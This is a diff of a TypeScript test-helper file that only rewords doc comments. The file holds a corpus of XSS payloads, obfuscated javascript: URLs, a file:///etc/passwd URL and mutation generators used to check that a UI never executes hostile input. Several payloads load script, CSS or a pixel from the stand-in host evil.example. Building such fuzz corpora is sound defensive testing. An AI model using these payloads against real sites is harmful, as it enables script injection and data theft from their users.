@@ -1,10 +1,10 @@
-/** Says that something ran: every payload tries to call it. */
+/** Reports that a payload ran: each of them tries to call it. */
 export const canary = '__ran'
 
 const run = `window.${canary}=1`
 const away = 'https://evil.example'
 
-/** Strings that have run as code somewhere: after the cheat sheets of OWASP, the tricks of markdown, and what hides in Unicode. */
+/** Strings that have been executed somewhere: from the OWASP cheat sheets, Markdown tricks, and invisible Unicode characters. */
 export const payloads: readonly string[] = [
   `<script>${run}</script>`,
   `<script src="${away}/x.js"></script>`,
@@ -96,7 +96,7 @@ export const payloads: readonly string[] = [
   'C:\\..\\..\\<img src=x onerror=1>|"?*.txt'
 ]
 
-/** Addresses that lead where none of ours may, each by itself: no field that takes an address takes them. */
+/** Addresses that nothing of ours may lead to: no field for an address accepts them. */
 export const urls: readonly string[] = [
   `javascript:${run}`,
   ` \tJaVa\nScRiPt:${run}//https://`,
@@ -106,10 +106,10 @@ export const urls: readonly string[] = [
   'file:///etc/passwd'
 ]
 
-/** What is put into a field: the text names the field, so that whoever finds it knows where it came from. */
+/** The hostile text for a field: it contains the field's name, so that a finding shows where it came from. */
 export type Evil = (field: string) => string
 
-/** Evil words, and the names of the fields they were put into. `seed` picks what is tried beside the worst. */
+/** Hostile texts, and the names of the fields that got them. `seed` picks what is tried besides the worst ones. */
 export function evilWords(seed: number): { evil: Evil; fields: Set<string> } {
   const random = mulberry(seed)
   const short = payloads.filter(({ length }) => length < 300)
@@ -122,18 +122,18 @@ export function evilWords(seed: number): { evil: Evil; fields: Set<string> } {
   return { evil, fields }
 }
 
-/** The same for one part of a path, which may be all that is shown of it. */
+/** The same for one segment of a path, which may be the only one shown. */
 export function evilName(evil: Evil, field: string): string {
   return `${evilWord(evil, field)} [a](javascript:${run}) "onmouseover="${run}"`.replaceAll('/', '')
 }
 
-/** The same in so few words that they are shown where little fits. */
+/** A short form, for places that show little text. */
 export function evilWord(evil: Evil, field: string): string {
   const [first = ''] = evil(field).split('\n')
   return first
 }
 
-/** A text before and after it was changed, with evil in all of it and, alone, in what is new in a line. */
+/** A text before and after a change, hostile as a whole and in the words inserted into a line. */
 export function evilChange(evil: Evil, field: string): { oldText: string; newText: string } {
   return {
     oldText: `${evil(`${field}.old`)}\nkept here`,
@@ -141,10 +141,10 @@ export function evilChange(evil: Evil, field: string): { oldText: string; newTex
   }
 }
 
-/** The same for a header, which has nothing but ASCII. */
+/** The same for a header, in ASCII. */
 export const evilHeader = `A program <img src=x onerror=${run}>`
 
-/** How a field names itself in its own text. */
+/** The name of a field, as its text contains it. */
 export function nameOf(field: string): string {
   return `⟦${field}⟧`
 }
@@ -156,11 +156,11 @@ const worst: readonly string[] = [
   `"><img src="${away}/pixel.gif" onload="${run}"><iframe srcdoc="<script>parent.${canary}=1</script>"></iframe>`,
   `<style>@import "${away}/x.css"</style><div style="background:url('${away}/s')">x</div>`,
   `A \`<img src=x onerror=${run}>\` in code`,
-  // Its language, a line in which nothing is told apart, and one that is a string of the language.
+  // A code block: its language, a line without syntax tokens, and a line with a string token.
   `\`\`\`<img/src=x/onerror=${run}>\n<img src=x onerror=window.${canary}++>\n"<img src=x onerror=${run}>"\n\`\`\``
 ]
 
-/** As many more as are asked for, the same for the same seed: pieces of the payloads put together anew, with letters lost, doubled and disguised. */
+/** Any number of further texts, the same for the same seed: pieces of the payloads recombined, with letters lost, doubled and disguised. */
 export function* mutations(seed: number): Generator<string> {
   const random = mulberry(seed)
   const below = (many: number) => Math.floor(random() * many)
